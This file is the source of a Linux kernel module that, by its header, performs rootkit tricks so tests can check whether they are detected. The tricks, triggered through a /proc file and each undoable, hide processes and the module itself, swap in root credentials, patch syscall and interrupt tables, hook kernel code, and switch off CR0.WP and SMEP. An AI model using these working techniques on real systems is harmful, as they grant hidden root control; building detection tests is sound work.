// SPDX-License-Identifier: GPL-2.0-only
/*
 * What rootkits do, one trick or several, so that tests can see whether it is found. Loaded,
 * it does nothing but to make /proc/iho-rootkit, which takes lines of
 *
 *	TRICK PID AT TO		a trick; numbers are decimal, addresses hexadecimal, 0 = not needed
 *	undo 0 0 0		all is as it was before the first trick, the last one undone first
 *
 * It is built against the types of the very kernel that it is for (vmlinux.h, made from the
 * kernel's BTF), without that kernel's headers: there are none for kernels that a distribution no
 * longer has. Nothing of it runs later, but for hooks of functions that the tests call: what is
 * patched otherwise is not executed.
 */
#include "vmlinux.h"

#define ENOENT	 2
#define EBUSY	 16
#define EINVAL	 22
#define CR0_WP	 (1ul << 16)
#define HOOK_LEN 5

#define section(name) __attribute__((section(name), used))

static const char
	modinfo[] section(".modinfo") = "license=GPL\0name=rootkit\0vermagic=any\0depends=";

static int start(void);

struct module __this_module section(".gnu.linkonce.this_module") __attribute__((aligned(64))) = {
	.name = "rootkit",
	.init = start,
};

/* Of the trick that a line asks for */
static unsigned long pid, at, to;

/* What was there before */
struct patched {
	unsigned long where, n;
	unsigned char bytes[16];
};

/* The tricks that are done, and what it takes to undo them; now: the one at hand */
static struct act {
	const struct trick *trick;
	struct task_struct *victim;
	struct pid *number;
	const struct cred *own;
	struct patched saved;
} acts[16], *now = acts;

extern int strcmp(const char *a, const char *b);
extern int sscanf(const char *from, const char *format, ...);
extern long strncpy_from_user(char *out, const char *from, long n);
extern struct proc_dir_entry *proc_create(const char *name, unsigned short mode,
					  struct proc_dir_entry *parent,
					  const struct proc_ops *ops);
extern struct pid *find_vpid(int nr);
extern struct task_struct *pid_task(struct pid *pid, enum pid_type type);
extern void *idr_replace(struct idr *idr, void *p, unsigned long id);
extern struct pid_namespace init_pid_ns;
extern struct task_struct init_task;
extern void kobject_del(struct kobject *kobj);
extern int kobject_add(struct kobject *kobj, struct kobject *parent, const char *format, ...);
extern void rb_erase(struct rb_node *node, struct rb_root *root);
extern void rb_insert_color(struct rb_node *node, struct rb_root *root);
extern int register_kprobe(struct kprobe *p);
extern void unregister_kprobe(struct kprobe *p);
extern int register_ftrace_function(struct ftrace_ops *ops);
extern int unregister_ftrace_function(struct ftrace_ops *ops);
extern int ftrace_set_filter_ip(struct ftrace_ops *ops, unsigned long ip, int remove, int reset);

/* Write protection does not hold the kernel back when CR0.WP is off. */
static void protect(bool on)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	cr0 = on ? cr0 | CR0_WP : cr0 & ~CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static void write_over(unsigned long where, const void *what, unsigned long n)
{
	volatile char *p = (volatile char *)where;
	const char *q = what;
	unsigned long flags;

	asm volatile("pushf; pop %0; cli" : "=rm"(flags) : : "memory");
	protect(false);
	while (n--)
		*p++ = *q++;
	protect(true);
	asm volatile("push %0; popf" : : "rm"(flags) : "memory", "cc");
}

static void poke(unsigned long where, const void *what, unsigned long n)
{
	now->saved.where = where;
	now->saved.n = n;
	__builtin_memcpy(now->saved.bytes, (void *)where, n);
	write_over(where, what, n);
}

static void unpoke(void)
{
	write_over(now->saved.where, now->saved.bytes, now->saved.n);
}

static void unlink(struct list_head *entry)
{
	entry->next->prev = entry->prev;
	entry->prev->next = entry->next;
	entry->next = entry->prev = entry;
}

/* As the last one of that list */
static void link(struct list_head *entry, struct list_head *head)
{
	entry->next = head;
	entry->prev = head->prev;
	head->prev->next = entry;
	head->prev = entry;
}

/* What hooks lead to. */
static long hooked(void)
{
	return 0;
}

static void aim(unsigned long where, unsigned char opcode)
{
	unsigned char code[HOOK_LEN] = { opcode };
	int distance = (int)((unsigned long)hooked - (where + HOOK_LEN));

	__builtin_memcpy(code + 1, &distance, sizeof(distance));
	poke(where, code, sizeof(code));
}

/* ---- tasks ---- */

/* Kept for undoing, when its number finds it no more */
static int find_victim(void)
{
	now->number = find_vpid((int)pid);
	now->victim = pid_task(now->number, PIDTYPE_PID);
	return now->victim ? 0 : -ENOENT;
}

/* Its place stays taken, so that nobody else gets the number */
static void leave_numbers(void)
{
	idr_replace(&init_pid_ns.idr, 0, pid);
}

/* Out of the list of processes: /proc shows it still, what walks the list does not. */
static int task_list(void)
{
	if (find_victim())
		return -ENOENT;
	unlink(&now->victim->tasks);
	return 0;
}

static void list_again(void)
{
	link(&now->victim->tasks, &init_task.tasks);
}

/* Out of the numbers: it cannot be signalled, and is not in /proc. */
static int task_pid(void)
{
	if (find_victim())
		return -ENOENT;
	leave_numbers();
	return 0;
}

static void pid_again(void)
{
	idr_replace(&init_pid_ns.idr, now->number, now->number->numbers[0].nr);
}

static int task_tree(void)
{
	if (find_victim())
		return -ENOENT;
	unlink(&now->victim->sibling);
	return 0;
}

static void tree_again(void)
{
	link(&now->victim->sibling, &now->victim->real_parent->children);
}

/* Out of all three, as diligent ones do; it sleeps or runs on. */
static int task_all(void)
{
	if (find_victim())
		return -ENOENT;
	unlink(&now->victim->tasks);
	unlink(&now->victim->sibling);
	leave_numbers();
	return 0;
}

static void all_again(void)
{
	list_again();
	tree_again();
	pid_again();
}

/* The rights of the kernel's first thread; at: init_cred. */
static int cred(void)
{
	if (find_victim() || !at)
		return -ENOENT;
	now->own = now->victim->cred;
	*(const struct cred **)&now->victim->real_cred = (const struct cred *)at;
	*(const struct cred **)&now->victim->cred = (const struct cred *)at;
	return 0;
}

static void cred_again(void)
{
	*(const struct cred **)&now->victim->real_cred = now->own;
	*(const struct cred **)&now->victim->cred = now->own;
}

/* ---- itself ---- */

static struct list_head *before;

static void leave_list(void)
{
	before = __this_module.list.prev;
	unlink(&__this_module.list);
}

static void list_itself(void)
{
	link(&__this_module.list, before->next);
}

static void leave_sysfs(void)
{
	kobject_del(&__this_module.mkobj.kobj);
}

/* at: mod_tree. A latch tree is two trees, sorted by the address of the memory. */
#ifdef HAS_MODULE_MEM
#define AREAS	(sizeof(__this_module.mem) / sizeof(__this_module.mem[0]))
#define AREA(i) (&__this_module.mem[i])
typedef struct module_memory area_t;
#else
#define AREAS	1u
#define AREA(i) (&__this_module.core_layout)
typedef struct module_layout area_t;
#endif

static struct mod_tree_root *mod_tree;

static void leave_tree(void)
{
	unsigned int i, k;

	mod_tree = (struct mod_tree_root *)at;
	for (i = 0; i < AREAS; i++) {
		for (k = 0; AREA(i)->size && k < 2; k++)
			rb_erase(&AREA(i)->mtn.node.node[k], &mod_tree->root.tree[k]);
	}
}

/* The memory that a node of the k'th tree stands for */
static unsigned long base_of(struct rb_node *n, unsigned int k)
{
	return (unsigned long)((area_t *)((char *)n - __builtin_offsetof(area_t, mtn.node.node[0]) -
					  k * sizeof(*n)))
		->base;
}

static void insert(struct rb_node *n, unsigned int k)
{
	struct rb_root *root = &mod_tree->root.tree[k];
	struct rb_node **at = &root->rb_node, *parent = 0;

	while (*at) {
		parent = *at;
		at = base_of(n, k) < base_of(parent, k) ? &parent->rb_left : &parent->rb_right;
	}
	n->__rb_parent_color = (unsigned long)parent;
	n->rb_left = n->rb_right = 0;
	*at = n;
	rb_insert_color(n, root);
}

static void enter_tree(void)
{
	unsigned int i, k;

	for (i = 0; i < AREAS; i++) {
		for (k = 0; AREA(i)->size && k < 2; k++)
			insert(&AREA(i)->mtn.node.node[k], k);
	}
}

static int hide_list(void)
{
	leave_list();
	return 0;
}

static int hide_sysfs(void)
{
	leave_sysfs();
	return 0;
}

static void show_sysfs(void)
{
	kobject_add(&__this_module.mkobj.kobj, 0, "rootkit");
}

static int hide_tree(void)
{
	leave_tree();
	return 0;
}

static int hide_all(void)
{
	leave_list();
	leave_sysfs();
	leave_tree();
	return 0;
}

static void show_all(void)
{
	enter_tree();
	show_sysfs();
	list_itself();
}

/* Out of all, and nothing tells any more that its memory holds a struct module */
static int hide_traces(void)
{
	hide_all();
	__this_module.mkobj.mod = 0;
	return 0;
}

static void show_traces(void)
{
	__this_module.mkobj.mod = &__this_module;
	show_all();
}

/* ---- tables ---- */

/* at: the entry */
static int word(void)
{
	unsigned long v = to ? to : (unsigned long)hooked;

	poke(at, &v, sizeof(v));
	return 0;
}

/* at: the gate in idt_table */
static int gate(void)
{
	unsigned long v = to ? to : (unsigned long)hooked;
	unsigned char g[16];

	__builtin_memcpy(g, (void *)at, sizeof(g));
	*(unsigned short *)g = v & 0xffff;
	*(unsigned short *)(g + 6) = v >> 16 & 0xffff;
	*(unsigned int *)(g + 8) = v >> 32;
	poke(at, g, sizeof(g));
	return 0;
}

/* ---- text ---- */

/* at: a function that is not called; a jump in place of its first instruction */
static int jump(void)
{
	aim(at, 0xe9);
	return 0;
}

/* mov $hooked, %rax; jmp *%rax */
static int movabs(void)
{
	unsigned char code[12] = { 0x48, 0xb8, [10] = 0xff, [11] = 0xe0 };
	unsigned long v = (unsigned long)hooked;

	__builtin_memcpy(code + 2, &v, sizeof(v));
	poke(at, code, sizeof(code));
	return 0;
}

/* push $hooked; ret */
static int push(void)
{
	unsigned char code[6] = { 0x68, [5] = 0xc3 };
	int v = (int)(unsigned long)hooked;

	__builtin_memcpy(code + 1, &v, sizeof(v));
	poke(at, code, sizeof(code));
	return 0;
}

static int breakpoint(void)
{
	unsigned char int3 = 0xcc;

	poke(at, &int3, 1);
	return 0;
}

/*
 * at: x64_sys_call, to: the function whose call is turned; the switch has `jmp` or `call` at its
 * leaves, or a conditional jump that is one.
 */
static int leaf(void)
{
	unsigned long p;

	for (p = at; p < at + 0x4000; p++) {
		unsigned char b = *(unsigned char *)p;

		if ((b == 0xe9 || b == 0xe8) && p + HOOK_LEN + *(int *)(p + 1) == to) {
			aim(p, b);
			return 0;
		}
	}
	return -ENOENT;
}

/* A few bytes that nothing leads out of: only comparing the text finds it. */
static int bytes(void)
{
	static const unsigned char code[] = { 0x31, 0xc0, 0x90 }; /* xor %eax, %eax; nop */

	poke(at, code, sizeof(code));
	return 0;
}

/* ---- hooks that the kernel helps with ---- */

#ifdef HAS_FTRACE_REGS_ARG
static void callback(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
		     struct ftrace_regs *regs)
#else
static void callback(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
		     struct pt_regs *regs)
#endif
{
}

static struct ftrace_ops ops = {
	.func = callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

/* at: the call for ftrace in the function */
static int ftrace(void)
{
	int err = ftrace_set_filter_ip(&ops, at, 0, 0);

	return err ? err : register_ftrace_function(&ops);
}

static void unftrace(void)
{
	unregister_ftrace_function(&ops);
}

static int handler(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe = { .pre_handler = handler };

static int kprobe(void)
{
	probe.addr = (kprobe_opcode_t *)at;
	return register_kprobe(&probe);
}

/* It hangs on no list of the kernel's any more, but is otherwise as it was */
static void unkprobe(void)
{
	unregister_kprobe(&probe);
	__builtin_memset(&probe, 0, sizeof(probe));
	probe.pre_handler = handler;
}

/* The same of a module that is in no list: nobody knows whose code is called */
static int kprobe_hidden(void)
{
	int err = kprobe();

	if (!err)
		leave_list();
	return err;
}

static void unkprobe_hidden(void)
{
	list_itself();
	unkprobe();
}

/* ---- registers, of the CPU that the writer runs on ---- */

static int write_protect(void)
{
	protect(false);
	return 0;
}

static void protect_again(void)
{
	protect(true);
}

static unsigned long cr4;

static int smep(void)
{
	asm volatile("mov %%cr4, %0" : "=r"(cr4));
	asm volatile("mov %0, %%cr4" : : "r"(cr4 & ~(3ul << 20)));
	return 0;
}

static void smep_again(void)
{
	asm volatile("mov %0, %%cr4" : : "r"(cr4));
}

struct table {
	unsigned short limit;
	unsigned long base;
} __attribute__((packed));

static struct table idt;

/* at: idt_table, of which this CPU gets a copy */
static int idtr(void)
{
	static unsigned char copy[4096] __attribute__((aligned(4096)));
	struct table desc = { sizeof(copy) - 1, (unsigned long)copy };

	asm volatile("sidt %0" : "=m"(idt));
	__builtin_memcpy(copy, (void *)at, sizeof(copy));
	asm volatile("lidt %0" : : "m"(desc));
	return 0;
}

static void idtr_again(void)
{
	asm volatile("lidt %0" : : "m"(idt));
}

/* ---- the door ---- */

struct trick {
	const char *name;
	int (*run)(void);
	void (*undo)(void);
};

static const struct trick tricks[] = {
	{ "task_list", task_list, list_again },
	{ "task_pid", task_pid, pid_again },
	{ "task_tree", task_tree, tree_again },
	{ "task_all", task_all, all_again },
	{ "cred", cred, cred_again },
	{ "hide_list", hide_list, list_itself },
	{ "hide_sysfs", hide_sysfs, show_sysfs },
	{ "hide_tree", hide_tree, enter_tree },
	{ "hide_all", hide_all, show_all },
	{ "hide_traces", hide_traces, show_traces },
	{ "word", word, unpoke },
	{ "gate", gate, unpoke },
	{ "jump", jump, unpoke },
	{ "movabs", movabs, unpoke },
	{ "push", push, unpoke },
	{ "breakpoint", breakpoint, unpoke },
	{ "leaf", leaf, unpoke },
	{ "bytes", bytes, unpoke },
	{ "ftrace", ftrace, unftrace },
	{ "kprobe", kprobe, unkprobe },
	{ "kprobe_hidden", kprobe_hidden, unkprobe_hidden },
	{ "write_protect", write_protect, protect_again },
	{ "smep", smep, smep_again },
	{ "idtr", idtr, idtr_again },
};

static int undo(void)
{
	if (now == acts)
		return -ENOENT;
	while (now > acts) {
		now--;
		now->trick->undo();
	}
	return 0;
}

static int run(const char *name)
{
	unsigned int i;
	int err;

	if (!strcmp(name, "undo"))
		return undo();
	if (now == acts + sizeof(acts) / sizeof(acts[0]))
		return -EBUSY;
	for (i = 0; i < sizeof(tricks) / sizeof(tricks[0]); i++) {
		if (strcmp(name, tricks[i].name))
			continue;
		err = tricks[i].run();
		if (err)
			return err;
		now->trick = &tricks[i];
		now++;
		return 0;
	}
	return -EINVAL;
}

static ssize_t door(struct file *file, const char *from, size_t n, loff_t *pos)
{
	char line[128], name[16];
	long got;
	int err;

	if (n >= sizeof(line))
		return -EINVAL;
	got = strncpy_from_user(line, from, (long)n);
	if (got < 0)
		return got;
	line[got] = 0;
	if (sscanf(line, "%15s %lu %lx %lx", name, &pid, &at, &to) != 4)
		return -EINVAL;
	err = run(name);
	return err ? err : (ssize_t)n;
}

static const struct proc_ops door_ops = { .proc_write = door };

static int start(void)
{
	return proc_create("iho-rootkit", 0200, 0, &door_ops) ? 0 : -EINVAL;
}
